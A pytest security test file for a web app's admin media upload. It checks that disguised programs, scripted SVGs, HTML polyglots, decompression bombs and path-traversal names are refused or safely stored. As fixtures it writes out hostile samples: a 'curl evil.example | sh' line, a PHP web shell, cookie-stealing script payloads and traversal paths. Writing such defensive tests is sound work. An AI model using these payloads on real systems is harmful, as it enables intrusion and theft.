"""Upload attacks through the admin, over HTTP: programs and pages under an
image's or a document's name, polyglot files, SVG with script in its
disguises, decompression bombs, oversized requests and path-like file names.
Each is refused with nothing stored, or stored only as the harmless thing it
really is, under a generated name, served with its real type."""
import gzip
import io
import os
import re

import pytest
from PIL import Image
from sqlalchemy import func, select

from gweb.media.models import Media
from tests.conftest import csrf_token_from
from tests.media import files

GENERATED = re.compile(r"^[0-9a-f]{24}\.(png|jpg|gif|webp|pdf|docx)$")


def _upload(client, data: bytes, name: str):
    token = csrf_token_from(client.get("/admin/media/upload").get_data(as_text=True))
    return client.post("/admin/media/upload", content_type="multipart/form-data", data={
        "csrf_token": token, "file": (io.BytesIO(data), name),
        "alt_lo": "ຮູບ", "alt_en": "A picture", "caption_lo": "", "caption_en": ""})


def _rows(db) -> int:
    return db.session.scalar(select(func.count(Media.id)))


def _files_under(folder) -> list[str]:
    found = []
    for path, _dirs, names in os.walk(folder):
        found += [os.path.join(path, n) for n in names]
    return found


def _elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)


def _jar() -> bytes:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe" + bytes(100))
    return buffer.getvalue()


SVG_DISGUISES = {
    "svg named png": (files.SVG_WITH_SCRIPT, "logo.png"),
    "svg after a byte-order mark and blank lines": (
        b"\xef\xbb\xbf\n\n  " + files.SVG_WITH_SCRIPT, "logo.jpg"),
    "svg in utf-16": (files.SVG_WITH_SCRIPT.decode().encode("utf-16"), "logo.png"),
    "svg with an onload handler and no script element": (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "icon.gif"),
    "gzipped svg (svgz)": (gzip.compress(files.SVG_WITH_SCRIPT), "logo.svgz"),
}
PROGRAMS = {
    "windows program named pdf": (files.exe(), "decree.pdf"),
    "linux program named jpg": (_elf(), "photo.jpg"),
    "shell script named docx": (b"#!/bin/sh\ncurl evil.example | sh\n", "report.docx"),
    "java archive named docx": (_jar(), "report.docx"),
    "html page named png": (b"<!doctype html><html><script>alert(1)</script></html>",
                            "photo.png"),
    "php named jpg": (b"<?php system($_GET['c']); ?>", "shell.php.jpg"),
}


@pytest.mark.parametrize("case", sorted(PROGRAMS))
def test_a_program_or_page_under_a_harmless_name_is_refused(app, db, site, client, login, case):
    data, name = PROGRAMS[case]
    login("editor")
    response = _upload(client, data, name)
    assert response.status_code == 200 and 'id="file-error"' in response.get_data(as_text=True)
    assert _rows(db) == 0 and _files_under(app.config["MEDIA_ROOT"]) == []


@pytest.mark.parametrize("case", sorted(SVG_DISGUISES))
def test_svg_with_script_is_refused_whatever_its_disguise(app, db, site, client, login, case):
    data, name = SVG_DISGUISES[case]
    login("editor")
    response = _upload(client, data, name)
    assert response.status_code == 200 and 'id="file-error"' in response.get_data(as_text=True)
    assert _rows(db) == 0 and _files_under(app.config["MEDIA_ROOT"]) == []


def _png_with_html_after_it() -> bytes:
    # A real image that is also an HTML page: browsers sniffing it as HTML
    # would run the script.
    return files.png(64, 64) + b"<html><body><script>alert(document.cookie)</script></body></html>"


def _pdf_with_html_inside() -> bytes:
    return b"%PDF-1.4\n<html><script>alert(document.cookie)</script></html>\n%%EOF\n"


def test_a_png_html_polyglot_is_kept_only_as_a_png_and_served_as_one(app, db, site, client,
                                                                     login):
    login("editor")
    response = _upload(client, _png_with_html_after_it(), "page.html")
    assert response.status_code == 302
    media = db.session.scalar(select(Media))
    assert media.mime_type == "image/png" and GENERATED.match(media.stored_name)
    served = client.get(f"/media/{media.stored_name}")
    assert served.mimetype == "image/png"
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert "script-src 'self'" in served.headers["Content-Security-Policy"]


def test_a_pdf_html_polyglot_is_only_ever_downloaded(app, db, site, client, login):
    login("editor")
    assert _upload(client, _pdf_with_html_inside(), "notice.html").status_code == 302
    media = db.session.scalar(select(Media))
    assert media.mime_type == "application/pdf" and media.stored_name.endswith(".pdf")
    served = client.get(f"/media/{media.stored_name}")
    assert served.mimetype == "application/pdf"
    assert served.headers["Content-Disposition"].startswith("attachment")
    assert served.headers["X-Content-Type-Options"] == "nosniff"


def test_a_gif_that_is_really_javascript_is_refused(app, db, site, client, login):
    login("editor")
    response = _upload(client, b"GIF89a=1;alert(document.cookie);//" + bytes(64), "anim.gif")
    assert response.status_code == 200 and _rows(db) == 0


@pytest.mark.parametrize("dimensions", [(8000, 6000), (60000, 1000)])
def test_an_image_that_inflates_to_a_huge_bitmap_is_refused(app, db, site, client, login,
                                                            dimensions):
    buffer = io.BytesIO()
    Image.new("1", dimensions).save(buffer, "PNG")
    assert len(buffer.getvalue()) < 200_000  # small on the wire
    login("editor")
    response = _upload(client, buffer.getvalue(), "map.png")
    assert response.status_code == 200 and 'id="file-error"' in response.get_data(as_text=True)
    assert _rows(db) == 0 and _files_under(app.config["MEDIA_ROOT"]) == []


def test_a_request_larger_than_the_limit_is_refused_before_it_is_read(app, db, site, client,
                                                                      login):
    app.config["MAX_CONTENT_LENGTH"] = 256 * 1024
    login("editor")
    response = _upload(client, files.png(2000, 2000, colour=(1, 2, 3)) + os.urandom(300 * 1024),
                       "photo.png")
    assert response.status_code == 413
    assert _rows(db) == 0 and _files_under(app.config["MEDIA_ROOT"]) == []


def test_a_file_over_the_media_limit_is_refused_with_a_message(app, db, site, client, login):
    app.config["MEDIA_MAX_BYTES"] = 50 * 1024
    login("editor")
    response = _upload(client, files.jpeg(2000, 2000) + os.urandom(60 * 1024), "photo.jpg")
    assert response.status_code == 200 and 'id="file-error"' in response.get_data(as_text=True)
    assert _rows(db) == 0


PATH_NAMES = ["../../../../tmp/evil.png", "..\\..\\..\\windows\\evil.png", "/etc/cron.d/evil.png",
              "C:\\Users\\Public\\evil.png", "....//....//evil.png", "%2e%2e%2fevil.png",
              "evil.png\x00.html", "ກະຊວງ/../../evil.png"]


@pytest.mark.parametrize("name", PATH_NAMES)
def test_a_path_like_file_name_never_chooses_where_the_file_goes(app, db, site, client, login,
                                                                 tmp_path, name):
    login("editor")
    response = _upload(client, files.png(32, 32), name)
    assert response.status_code == 302
    media = db.session.scalar(select(Media))
    assert GENERATED.match(media.stored_name)
    assert "/" not in media.original_name and "\\" not in media.original_name
    assert "\x00" not in media.original_name
    stored = _files_under(app.config["MEDIA_ROOT"])
    assert [os.path.basename(p) for p in stored] == [media.stored_name]
    # Nothing was written anywhere else in the test's folder either.
    assert not [p for p in _files_under(tmp_path) if "evil" in os.path.basename(p)]


@pytest.mark.parametrize("url", ["/media/..%2f..%2fgweb.sqlite",
                                 "/media/%2e%2e%2f%2e%2e%2fgweb.sqlite",
                                 "/media/..%5c..%5cgweb.sqlite", "/media/../../gweb.sqlite",
                                 "/media/320/..%2f..%2f..%2f..%2fgweb.sqlite",
                                 "/media/320/..%5c..%5c..%5c..%5cgweb.sqlite"])
def test_a_media_address_cannot_climb_out_of_the_media_folder(app, site, client, url):
    response = client.get(url)
    assert response.status_code == 404
    assert b"SQLite format" not in response.get_data()
